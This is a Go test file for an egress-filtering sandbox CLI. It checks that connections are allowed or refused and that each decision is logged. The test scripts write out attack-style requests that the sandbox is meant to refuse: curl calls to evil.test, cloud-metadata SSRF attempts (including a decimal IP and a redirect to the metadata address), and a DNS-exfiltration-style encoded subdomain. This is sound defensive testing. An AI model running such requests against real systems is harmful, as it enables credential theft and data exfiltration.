package cli

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/airlockhq/airlock/internal/testutil/isolatednet"
	"github.com/airlockhq/airlock/result"
)

// The CLI's tests run in a network namespace with only lo: the egress
// tests try metadata and outside addresses, and nothing may leave the
// machine even if airlock is wrong.
func TestMain(m *testing.M) { os.Exit(isolatednet.Main(m)) }

// upstreams are HTTP and HTTPS servers on loopback that stand in for
// outside services; hits counts the requests that reached them.
type upstreams struct {
	http, https  *httptest.Server
	hport, tport int
	hits         atomic.Int64
}

func newUpstreams(t *testing.T) *upstreams {
	u := &upstreams{}
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		u.hits.Add(1)
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, "http://169.254.169.254/latest/meta-data/", http.StatusFound)
			return
		}
		fmt.Fprintf(w, "hello %s\n", r.Host)
	})
	u.http = httptest.NewServer(h)
	u.https = httptest.NewTLSServer(h)
	t.Cleanup(u.http.Close)
	t.Cleanup(u.https.Close)
	u.hport = u.http.Listener.Addr().(*net.TCPAddr).Port
	u.tport = u.https.Listener.Addr().(*net.TCPAddr).Port
	return u
}

func writeConfig(t *testing.T, body string) string {
	p := filepath.Join(t.TempDir(), "airlock.yaml")
	if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

// TestEgressRealClients runs real clients inside a sandbox against
// upstreams on loopback reached through pinned private destinations, and
// every refusal the issue names, each checked in the decision log.
func TestEgressRealClients(t *testing.T) {
	isolatednet.Require(t)
	u := newUpstreams(t)
	cfg := writeConfig(t, fmt.Sprintf(`
tools:
  web:
    egress:
      - host: plain.test
        ports: [%[1]d]
        addresses: [127.0.0.1]
        private: true
      - host: example.com   # the name in httptest's certificate
        ports: [%[2]d]
        addresses: [127.0.0.1]
        private: true
      - localhost:%[1]d     # listed, but loopback without private
`, u.hport, u.tport))
	h, p := u.hport, u.tport
	script := strings.Join([]string{
		// Allowed: through the proxy, transparently, and after a lookup
		// of the client's own.
		fmt.Sprintf(`echo "proxy-http: $(curl -sS http://plain.test:%d/)"`, h),
		fmt.Sprintf(`echo "proxy-https: $(curl -sSk https://example.com:%d/)"`, p),
		fmt.Sprintf(`echo "direct-http: $(curl -sS --noproxy '*' http://plain.test:%d/)"`, h),
		fmt.Sprintf(`echo "direct-https: $(curl -sSk --noproxy '*' https://example.com:%d/)"`, p),
		fmt.Sprintf(`python3 -c 'import socket; a=socket.gethostbyname("plain.test"); s=socket.create_connection((a,%d)); s.sendall(b"GET / HTTP/1.0\r\nHost: plain.test\r\n\r\n"); print("own-lookup:", a, s.recv(4096).split(b"\r\n")[0].decode())'`, h),
		// Refused.
		fmt.Sprintf(`echo "sni: $(curl -sSk --noproxy '*' --resolve wrong.example:%d:$(getent hosts example.com | cut -d' ' -f1) https://wrong.example:%d/ 2>&1)"`, p, p),
		`echo "unlisted: $(curl -sS http://evil.test/)"`,
		`echo "metadata: $(curl -sS http://169.254.169.254/latest/meta-data/)"`,
		`echo "metadata-decimal: $(curl -sS http://2852039166/)"`,
		fmt.Sprintf(`echo "private-name: $(curl -sS --noproxy '' http://localhost:%d/)"`, h),
		fmt.Sprintf(`echo "redirect: $(curl -sSL http://plain.test:%d/redirect)"`, h),
		fmt.Sprintf(`echo "connect-internal: $(curl -sS --noproxy '' -p http://127.0.0.1:%d/ 2>&1)"`, h),
		`echo "connect-port: $(curl -sS -p http://plain.test:22/ 2>&1)"`,
		`echo "outside-ip: $(curl -sS -m 3 --noproxy '*' http://8.8.8.8/ 2>&1)"`,
		`echo "outside-metadata: $(curl -sS -m 3 --noproxy '*' http://169.254.169.254/ 2>&1)"`,
		`getent hosts evil.test || echo "dns-unlisted: refused"`,
		`getent hosts mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpjqwezdfmztwq2lknnwg23t.evil.test || echo "dns-long: refused"`,
		// A TXT query by hand: the answer's rcode is REFUSED (5).
		`python3 -c 'import socket,struct; q=struct.pack(">HHHHHH",7,0x100,1,0,0,0)+b"".join(bytes([len(l)])+l for l in b"data.plain.test".split(b"."))+b"\0"+struct.pack(">HH",16,1); s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q,("127.0.0.53",53)); r=s.recv(512); print("dns-txt: rcode", r[3]&15)'`,
	}, "\n")
	o := airlock(t, "", "--config", cfg, "--tool", "web", "--json", "--", "sh", "-c", script)
	if o.code != 0 {
		t.Fatalf("exit %d: %s", o.code, o.stderr)
	}
	var r result.Result
	if err := json.Unmarshal([]byte(o.stdout), &r); err != nil {
		t.Fatalf("%v: %s", err, o.stdout)
	}
	out := string(r.Stdout)
	wantOut := []string{
		fmt.Sprintf("proxy-http: hello plain.test:%d", h),
		fmt.Sprintf("proxy-https: hello example.com:%d", p),
		fmt.Sprintf("direct-http: hello plain.test:%d", h),
		fmt.Sprintf("direct-https: hello example.com:%d", p),
		"own-lookup: 127.1.0.",
		"HTTP/1.0 200 OK",
		"sni: curl: (35)",
		`unlisted: airlock refused a connection to evil.test:80 ("evil.test" is not an allowed destination); this is airlock's policy, not a network fault`,
		`metadata: airlock refused a connection to 169.254.169.254:80 (`,
		// curl itself rewrites the decimal form; the proxy's own parsing
		// of odd spellings is tested in internal/egress.
		`metadata-decimal: airlock refused a connection to 169.254.169.254:80 (`,
		// Whichever of 127.0.0.1 and ::1 the host's resolver puts first.
		`private-name: airlock refused a connection to localhost:` + fmt.Sprint(h) + ` (address `,
		`redirect: airlock refused a connection to 169.254.169.254:80`,
		"connect-internal: curl: (56)",
		"connect-port: curl: (56)",
		"outside-ip: curl: (7)",
		"outside-metadata: curl: (7)",
		"dns-unlisted: refused",
		"dns-long: refused",
		"dns-txt: rcode 5",
	}
	for _, w := range wantOut {
		if !strings.Contains(out, w) {
			t.Errorf("output lacks %q", w)
		}
	}
	if !regexp.MustCompile(`private-name: .* \(address (127\.0\.0\.1|::1) is loopback; set private: true to allow it \(--allow-private on the command line\)\); this is airlock's policy`).MatchString(out) {
		t.Errorf("output lacks the refusal of localhost as loopback")
	}
	if t.Failed() {
		t.Logf("stdout:\n%s\nstderr:\n%s", out, r.Stderr)
	}
	// Upstreams saw the allowed requests only: 4 curl + 1 python + the
	// redirect's first hop.
	if got := u.hits.Load(); got != 6 {
		t.Errorf("upstreams got %d requests, want 6", got)
	}

	// The decision log holds every one of them.
	type want struct {
		kind, dest, code string
		allow            bool
	}
	wantLog := []want{
		{result.EgressProxy, fmt.Sprintf("plain.test:%d", h), "", true},
		{result.EgressProxy, fmt.Sprintf("example.com:%d", p), "", true},
		{result.EgressTransparent, fmt.Sprintf("plain.test:%d", h), "", true},
		{result.EgressTransparent, fmt.Sprintf("example.com:%d", p), "", true},
		{result.EgressDNS, "plain.test", "", true},
		{result.EgressTransparent, fmt.Sprintf("example.com:%d", p), result.EgressSNIMismatch, false},
		{result.EgressProxy, "evil.test:80", result.EgressNotAllowed, false},
		{result.EgressProxy, "169.254.169.254:80", result.EgressMetadata, false},
		{result.EgressProxy, fmt.Sprintf("localhost:%d", h), result.EgressPrivate, false},
		{result.EgressProxy, fmt.Sprintf("127.0.0.1:%d", h), result.EgressNotAllowed, false},
		{result.EgressProxy, "plain.test:22", result.EgressNotAllowed, false},
		{result.EgressDNS, "evil.test", result.EgressNotAllowed, false},
		{result.EgressDNS, "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpjqwezdfmztwq2lknnwg23t.evil.test", result.EgressNotAllowed, false},
		{result.EgressDNS, "data.plain.test", result.EgressQueryType, false},
	}
	for _, w := range wantLog {
		found := false
		for _, ev := range r.Egress {
			if ev.Kind == w.kind && ev.Destination == w.dest && ev.Allow == w.allow && ev.Code == w.code && (w.allow || ev.Reason != "") && ev.Sandbox == r.SandboxID && ev.Tool == "web" {
				if w.allow && w.kind != result.EgressDNS && (ev.Address == "" || ev.BytesIn == 0) {
					continue
				}
				found = true
				break
			}
		}
		if !found {
			t.Errorf("no log entry %+v", w)
		}
	}
	// Nothing was ever dialed at an address other than the upstreams'.
	for _, ev := range r.Egress {
		if ev.Kind != result.EgressDNS && ev.Address != "" && !strings.HasPrefix(ev.Address, "127.0.0.1:") {
			t.Errorf("dialed %s: %+v", ev.Address, ev)
		}
	}
	if t.Failed() {
		b, _ := json.MarshalIndent(r.Egress, "", " ")
		t.Logf("egress log:\n%s", b)
	}
}

func TestEgressConfigErrors(t *testing.T) {
	requireRoot(t)
	bad := writeConfig(t, "tools:\n  web:\n    egress:\n      - 169.254.169.254:80\n")
	unknown := writeConfig(t, "tools:\n  web:\n    limits:\n      memery: 1GiB\n")
	good := writeConfig(t, "tools:\n  web: {}\n  other: {}\n")
	tests := []struct {
		name string
		args []string
		want string
	}{
		{"metadata flag", []string{"--allow", "169.254.169.254:80"}, "-allow"},
		{"metadata name flag", []string{"--allow", "metadata.google.internal"}, "metadata"},
		{"wildcard tld", []string{"--allow", "*.com"}, "-allow"},
		{"bad port", []string{"--allow", "example.com:99999"}, "-allow"},
		{"loopback without --allow-private", []string{"--allow", "127.0.0.1:8080"}, "set private: true to allow it (--allow-private on the command line)"},
		{"metadata with --allow-private", []string{"--allow-private", "169.254.169.254:80"}, "-allow-private"},
		{"metadata in config", []string{"--config", bad, "--tool", "web"}, bad + ":4:"},
		{"unknown key", []string{"--config", unknown, "--tool", "web"}, `:4:7: tools.web.limits.memery: unknown field "memery"`},
		{"unknown tool", []string{"--config", good, "--tool", "nope"}, "other, web"},
		{"missing config", []string{"--config", "/nonexistent/airlock.yaml", "--tool", "web"}, "not found"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			o := airlock(t, "", append(tt.args, "--", "true")...)
			if o.code != ExitFailure || !strings.Contains(o.stderr, tt.want) {
				t.Fatalf("got exit %d, stderr %q; want %d mentioning %q", o.code, o.stderr, ExitFailure, tt.want)
			}
		})
	}
}

// TestAllowPrivate: --allow-private lets a plain run reach a destination
// in a private range, as private: true does in the config; --allow alone
// does not.
func TestAllowPrivate(t *testing.T) {
	isolatednet.Require(t)
	u := newUpstreams(t)
	url := fmt.Sprintf("http://127.0.0.1:%d/", u.hport)
	o := airlock(t, "", "--allow-private", fmt.Sprintf("127.0.0.1:%d", u.hport), "--", "curl", "-sS", "--noproxy", "", url)
	if o.code != 0 || !strings.HasPrefix(o.stdout, "hello ") {
		t.Fatalf("--allow-private: exit %d %q %q", o.code, o.stdout, o.stderr)
	}
	o = airlock(t, "", "--allow-private", fmt.Sprintf("127.0.0.1:%d", u.hport+1), "--", "curl", "-sS", "--noproxy", "", url)
	if strings.Contains(o.stdout, "hello") || !strings.Contains(o.stdout, "(port ") {
		t.Fatalf("another port: exit %d %q", o.code, o.stdout)
	}
}

// TestToolSettingsAndFlagOverride: a tool's environment, working
// directory and time ceiling apply, and flags win over them. The ceiling
// is derived from how long the command takes here without its sleep, so
// that on a slow machine its output still comes before the breach: three
// times the whole run (start, setup, command, teardown) of which the
// output is only a part, at least 300 ms.
func TestToolSettingsAndFlagOverride(t *testing.T) {
	requireRoot(t)
	config := func(ceiling time.Duration) string {
		return writeConfig(t, fmt.Sprintf(`
tools:
  small:
    env:
      GREETING: from-config
    workdir: /tmp
    limits:
      time: %dms
`, ceiling.Milliseconds()))
	}
	const prints = `echo "$GREETING $(pwd)"`
	began := time.Now()
	if o := airlock(t, "", "--config", config(time.Minute), "--tool", "small", "--", "sh", "-c", prints); o.code != 0 || o.stdout != "from-config /tmp\n" {
		t.Fatalf("tool settings: %+v", o)
	}
	took := time.Since(began)
	ceiling := min(max(3*took, 300*time.Millisecond), 20*time.Second).Truncate(time.Millisecond)
	t.Logf("the command took %v here, whole; its ceiling is %v", took, ceiling)
	cfg := config(ceiling)
	o := airlock(t, "", "--config", cfg, "--tool", "small", "--", "sh", "-c", prints+"; sleep 60")
	if o.code != ExitLimit || o.stdout != "from-config /tmp\n" || !strings.Contains(o.stderr, "time limit of ") || !strings.Contains(o.stderr, "tools.small.limits.time") {
		t.Fatalf("tool settings with a %v ceiling: %+v", ceiling, o)
	}
	o = airlock(t, "", "--config", cfg, "--tool", "small", "--time", "10s", "--env", "GREETING=flag", "--", "sh", "-c", `echo "$GREETING"; sleep 0.5`)
	if o.code != 0 || o.stdout != "flag\n" {
		t.Fatalf("flags over the tool: %+v", o)
	}
}

func TestEgressEventsAndDenialLine(t *testing.T) {
	requireRoot(t)
	o := airlock(t, "", "--events", "--", "sh", "-c", "curl -sS http://evil.test/ >/dev/null; getent hosts evil.test; true")
	var sawEgress, sawResult bool
	for _, line := range strings.Split(strings.TrimSpace(o.stdout), "\n") {
		var ev result.Event
		if err := json.Unmarshal([]byte(line), &ev); err != nil {
			t.Fatalf("bad event line %q: %v", line, err)
		}
		switch ev.Type {
		case result.EventEgress:
			if ev.Egress == nil || ev.Egress.Allow {
				t.Fatalf("egress event %q", line)
			}
			sawEgress = true
		case result.EventResult:
			sawResult = len(ev.Result.Egress) > 0
		}
	}
	if !sawEgress || !sawResult {
		t.Fatalf("events: egress %v, result with egress %v:\n%s", sawEgress, sawResult, o.stdout)
	}
	// Without --json or --events, a denial is explained once on stderr.
	o = airlock(t, "", "--", "sh", "-c", "getent hosts evil.test; getent hosts evil.test; true")
	if n := strings.Count(o.stderr, `airlock: egress denied (dns): evil.test: "evil.test" is not an allowed destination`); n != 1 {
		t.Fatalf("denial explained %d times: %q", n, o.stderr)
	}
}
